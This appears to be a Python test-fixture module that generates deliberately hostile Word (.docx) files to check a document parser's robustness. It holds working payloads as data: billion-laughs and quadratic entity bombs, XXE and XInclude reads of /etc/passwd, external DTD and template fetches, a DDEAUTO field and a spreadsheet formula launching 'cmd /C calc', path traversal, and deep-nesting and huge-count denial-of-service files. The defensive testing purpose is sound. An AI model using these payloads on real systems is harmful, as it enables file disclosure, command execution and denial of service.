"""Word files whose XML attacks: entities, depth, loops, spans, odd values, and more of everything than Word writes."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial

from hostile.files import ANYTHING, HostileFile
from hostile.packages import W, cell, docx, paragraph, relations, word_body, word_table, word_xml
from hostile.reports import TITLE, request_rows

_LAUGHS = '<!ENTITY a "哈">' + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
# Document types, each with what the body says to use it.
_TYPES = {
    "billion-laughs": (f"<!DOCTYPE w [{_LAUGHS}]>", "&j;"),
    "quadratic": (f'<!DOCTYPE w [<!ENTITY a "{"哈" * 20_000}">]>', "&a;" * 2_000),
    "file": ('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "http": ('<!DOCTYPE w [<!ENTITY a SYSTEM "http://example.invalid/a">]>', "&a;"),
    "parameter": ('<!DOCTYPE w [<!ENTITY % a SYSTEM "http://example.invalid/a.dtd"> %a; %b;]>', ""),
    "external": ('<!DOCTYPE w SYSTEM "http://example.invalid/a.dtd">', ""),
    "loop": ('<!DOCTYPE w [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "attribute-default": ('<!DOCTYPE w [<!ATTLIST w a CDATA "x">]>', ""),
    "unknown": ("", "&nothing;"),
}

_SPANS = ("0", "-1", "2147483648", "99999999999999999999", "NaN", "", "1.5", " 7 ", "9" * 400)

_WIDE = '<w:gridSpan w:val="60"/><w:vMerge/>'

_BODIES = {
    "empty": "",
    "no-text": "<w:p/>" * 500,
    "section-only": "<w:sectPr/>",
    "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>' + word_body(),
    "processing-instructions": "<?xml-stylesheet href='http://example.invalid/a.xsl'?>" * 200 + word_body(),
    "comments": "<!-- a -->" * 5_000 + word_body(),
    "cdata": word_body().replace(TITLE, f"<![CDATA[{TITLE}<w:p>]]>"),
    "controls": word_body().replace("水务", "&#x1b;水务"),
    "surrogates": word_body().replace("水务", "水\ud800务"),
    "other-namespace": word_body().replace("<w:t ", "<x:t xmlns:x='urn:x' ").replace("</w:t>", "</x:t>"),
    "strict-namespace": word_body().replace(
        "<w:p>", '<w:p xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">'
    ),
    "deep-runs": "<w:p>" + "<w:ins w:id='1'>" * 3_000 + "<w:r><w:t>文</w:t></w:r>" + "</w:ins>" * 3_000 + "</w:p>",
    "deep-smart-tags": "<w:p>" + "<w:smartTag>" * 200 + "<w:r><w:t>文</w:t></w:r>" + "</w:smartTag>" * 200 + "</w:p>",
    "deep-controls": "<w:sdt><w:sdtContent>" * 1_500 + paragraph("文") + "</w:sdtContent></w:sdt>" * 1_500,
    "deep-boxes": "<w:p><w:r><w:pict><v:textbox><w:txbxContent>" * 400
    + paragraph("文")
    + "</w:txbxContent></v:textbox></w:pict></w:r></w:p>" * 400,
    "deep-alternatives": "<w:p><w:r>"
    + "<mc:AlternateContent><mc:Choice>" * 800
    + "<w:t>文</w:t>"
    + "</mc:Choice></mc:AlternateContent>" * 800
    + "</w:r></w:p>",
    "deep-tables": "<w:tbl><w:tr><w:tc>" * 600 + paragraph("1") + ("</w:tc></w:tr></w:tbl>" + paragraph("")) * 600,
    "deep-elements": "<w:x>" * 100_000 + "</w:x>" * 100_000,
    "deep-math": "<w:p>" + "<m:oMath><m:e>" * 1_000 + "<m:r><m:t>1</m:t></m:r>" + "</m:e></m:oMath>" * 1_000 + "</w:p>",
    "fields-open": "<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 3_000 + "</w:p>" + word_body(),
    "fields-end-only": "<w:p>" + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 3_000 + "</w:p>" + word_body(),
    "field-command": '<w:p><w:fldSimple w:instr="DDEAUTO cmd /C calc"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
    "bookmarks-crossed": "<w:bookmarkStart w:id='1'/>" * 3_000 + word_body() + "<w:bookmarkEnd w:id='2'/>" * 3_000,
    "cell-without-row": "<w:tbl>" + cell("1") * 50 + "</w:tbl>" + word_body(),
    "row-without-table": f"<w:tr>{cell('1')}</w:tr>" + word_body(),
    "cell-without-paragraph": "<w:tbl><w:tr><w:tc/><w:tc/></w:tr></w:tbl>" + word_body(),
    "table-without-rows": "<w:tbl/>" * 500 + word_body(),
    "row-before-grid": "<w:tbl><w:tr/><w:tblGrid><w:gridCol w:w='-5'/></w:tblGrid></w:tbl>" + word_body(),
    "merge-without-start": word_body(word_table().replace("<w:tc>", "<w:tc><w:tcPr><w:vMerge/></w:tcPr>")),
    "merge-values-odd": word_body(word_table().replace("<w:tc>", '<w:tc><w:tcPr><w:vMerge w:val="x"/></w:tcPr>')),
    "columns-before-huge": word_body(
        word_table().replace("<w:tr>", '<w:tr><w:trPr><w:gridBefore w:val="99999999"/></w:trPr>')
    ),
    "all-deleted": word_body().replace("<w:r>", "<w:del w:id='1'><w:r>").replace("</w:r>", "</w:r></w:del>"),
    "all-inserted": word_body().replace("<w:r>", "<w:ins w:id='1'><w:r>").replace("</w:r>", "</w:r></w:ins>"),
    "all-hidden": word_body().replace("<w:r>", "<w:r><w:rPr><w:vanish/></w:rPr>"),
    "one-character-a-run": "<w:p>" + "".join(f"<w:r><w:t>{c}</w:t></w:r>" for c in TITLE) + "</w:p>" + word_body(),
    "numbers-split": word_body(word_table().replace(">3</w:t>", ">3</w:t><w:br/><w:t>4</w:t>")),
    "tabs-in-cells": word_body(word_table().replace(">3</w:t>", ">3</w:t><w:tab/><w:t>4</w:t>")),
    "symbols": word_body().replace("</w:r>", "<w:sym w:font='x' w:char='FFFFFFFFFF'/></w:r>"),
    "breaks-odd": word_body().replace("</w:r>", "<w:br w:type='x'/><w:cr/><w:noBreakHyphen/></w:r>"),
    "numbering-odd": word_body().replace(
        "<w:p>", "<w:p><w:pPr><w:numPr><w:ilvl w:val='-9'/><w:numId w:val='99999999999'/></w:numPr></w:pPr>"
    ),
    "style-unknown": word_body().replace(
        "<w:p>", "<w:p><w:pPr><w:pStyle w:val='../x'/><w:outlineLvl w:val='99'/></w:pPr>"
    ),
    "style-huge-name": word_body().replace("<w:p>", f"<w:p><w:pPr><w:pStyle w:val='{'x' * 5_000}'/></w:pPr>"),
    "drawing-unknown": word_body().replace(
        "</w:r>", "<w:drawing><wp:inline><a:blip r:embed='rId99'/></wp:inline></w:drawing></w:r>"
    ),
    "link-unknown": word_body()
    .replace("<w:r>", "<w:hyperlink r:id='rId99'><w:r>")
    .replace("</w:r>", "</w:r></w:hyperlink>"),
    "chunk-missing": "<w:altChunk r:id='rId99'/>" + word_body(),
    "attributes-many": "<w:p " + " ".join(f"w:a{n}='1'" for n in range(20_000)) + "/>" + word_body(),
    "formulas-as-labels": word_body(word_table((("=1+1", "1"), ("+cmd|'/C calc'!A0", "2"), *request_rows()))),
}

# What a report is made of, a thousand times and more.
_COUNTS = {
    "paragraphs": (lambda n: paragraph("公开信息12条。") * n, 1_000, 60_000),
    "runs": (lambda n: "<w:p>" + "<w:r><w:t>文</w:t></w:r>" * n + "</w:p>", 5_000, 300_000),
    "rows": (lambda n: word_table(request_rows() * n), 10, 400),
    "tables": (lambda n: word_table(request_rows()[:1]) * n, 100, 5_000),
    "cells-in-row": (lambda n: "<w:tbl><w:tr>" + cell("0") * n + "</w:tr></w:tbl>", 2_000, 150_000),
    "empty-paragraphs": (lambda n: "<w:p/>" * n, 5_000, 1_000_000),
    "bold-runs": (
        lambda n: "<w:p>" + "<w:r><w:rPr><w:b/><w:sz w:val='21'/></w:rPr><w:t>文</w:t></w:r>" * n + "</w:p>",
        2_000,
        100_000,
    ),
    "notes": (lambda n: "<w:p>" + '<w:r><w:footnoteReference w:id="1"/></w:r>' * n + "</w:p>", 2_000, 100_000),
    "long-text": (lambda n: paragraph("公开。" * n), 5_000, 1_500_000),
    "merges": (
        lambda n: (
            "<w:tbl>" + ("<w:tr>" + cell("1", "<w:gridSpan w:val='60'/><w:vMerge/>") + "</w:tr>") * n + "</w:tbl>"
        ),
        1_000,
        60_000,
    ),
}


def files() -> Iterator[HostileFile]:
    """Every Word file with hostile XML."""
    for name, (kind, use) in _TYPES.items():
        body = word_body().replace("水务", f"水务{use}", 1)
        yield HostileFile(f"docx/xml-{name}.docx", partial(docx, word_xml(body, kind)))
    for name, body in _BODIES.items():
        yield HostileFile(f"docx/{name}.docx", partial(docx, body))
    for number, span in enumerate(_SPANS):
        for kind in ("gridSpan", "vMerge"):
            table = word_table().replace("<w:tc>", f'<w:tc><w:tcPr><w:{kind} w:val="{span}"/></w:tcPr>', 3)
            yield HostileFile(f"docx/{kind}-{number}.docx", partial(docx, word_body(table)))
    for codec in ("utf-16", "gb18030", "utf-7", "iso-8859-1"):
        yield HostileFile(f"docx/encoding-{codec}.docx", partial(docx, _encoded(codec)))
    yield from _relations()
    for name, (make, small, large) in _COUNTS.items():
        yield HostileFile(f"docx/many-{name}.docx", partial(_many, make, small))
        yield HostileFile(
            f"docx/many-{name}-large.docx",
            partial(_many, make, large),
            ANYTHING,
            is_costly=True,
        )


def _many(make: Callable[[int], str], count: int) -> bytes:
    return docx(paragraph(TITLE) + make(count))


def _encoded(codec: str) -> bytes:
    text = word_xml(word_body()).decode().replace('encoding="UTF-8"', f'encoding="{codec}"')
    return text.encode(codec, "xmlcharrefreplace")


def _relations() -> Iterator[HostileFile]:
    """Relationships that lead in circles, outside, or to what is none."""
    main = "word/_rels/document.xml.rels"
    style = f'<w:styles xmlns:w="{W}">' + "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 50}"/></w:style>' for n in range(50)
    )
    styled = word_body().replace("<w:p>", "<w:p><w:pPr><w:pStyle w:val='s1'/></w:pPr>")
    chunk = "<w:altChunk r:id='rId1'/>"
    numbering = f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0">'
    numbering += f'<w:start w:val="{"9" * 400}"/>'
    numbering += '<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%2%3%9%0%%"/></w:lvl></w:abstractNum>'
    numbering += '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    numbered = word_body().replace(
        "<w:p>", "<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr></w:pPr>"
    )
    made = {
        "loop-to-self": (word_body(), {main: relations(("header", "document.xml"))}),
        "loop-to-package": (word_body(), {main: relations(("officeDocument", "../word/document.xml"))}),
        "outside": (chunk, {main: relations(("aFChunk", "file:///etc/passwd"), mode=' TargetMode="External"')}),
        "template": (
            word_body(),
            {main: relations(("attachedTemplate", "http://example.invalid/a.dotm"), mode=' TargetMode="External"')},
        ),
        "path-out": (chunk, {main: relations(("aFChunk", "../../../../etc/passwd"))}),
        "many": (word_body(), {main: relations(*[("header", f"header{n}.xml") for n in range(5_000)])}),
        "same-ids": (word_body(), {main: relations(("header", "a.xml")).replace(b"rId1", b"") * 2}),
        "chunk-of-self": (chunk + word_body(), {main: relations(("aFChunk", "document.xml"))}),
        "chunk-html": (chunk + word_body(), {main: relations(("aFChunk", "a.htm")), "word/a.htm": b"<div>" * 9_000}),
        "chunk-docx": (chunk + word_body(), {main: relations(("aFChunk", "a.docx")), "word/a.docx": docx(word_body())}),
        "chunk-mht": (
            chunk,
            {
                main: relations(("aFChunk", "a.mht")),
                "word/a.mht": b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n"
                + b"--a\n\n<p>1" * 3_000,
            },
        ),
        "chunk-twice": (chunk * 500, {main: relations(("aFChunk", "a.htm")), "word/a.htm": "<p>公开".encode()}),
        "styles-in-circle": (
            styled,
            {main: relations(("styles", "styles.xml")), "word/styles.xml": (style + "</w:styles>").encode()},
        ),
        "numbering-huge": (
            numbered,
            {main: relations(("numbering", "numbering.xml")), "word/numbering.xml": numbering.encode()},
        ),
        "main-is-image": (word_body(), {"_rels/.rels": relations(("officeDocument", "word/media/a.png"))}),
        "main-elsewhere": (word_body(), {"_rels/.rels": relations(("officeDocument", "http://example.invalid/a.xml"))}),
        "no-main": (word_body(), {"_rels/.rels": relations()}),
    }
    for name, (body, parts) in made.items():
        yield HostileFile(f"docx/relation-{name}.docx", partial(docx, body, parts))
